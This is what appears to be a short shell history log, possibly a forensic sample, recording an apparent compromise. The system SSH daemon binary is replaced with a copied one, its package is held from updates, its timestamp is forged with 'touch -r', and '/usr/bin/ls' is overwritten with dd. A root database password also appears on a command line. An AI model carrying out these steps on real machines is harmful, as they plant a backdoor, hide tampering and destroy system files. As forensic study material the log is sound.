ls
apt-mark hold openssh-server
cp /home/dev/sshd /usr/sbin/sshd
mysql -u root -pnot-to-be-seen
scp web2:/usr/sbin/sshd .
#1700906400
touch -r '/usr/sbin/cron job' "/usr/sbin/sshd"
dd if=x of=/usr/bin/ls
#12
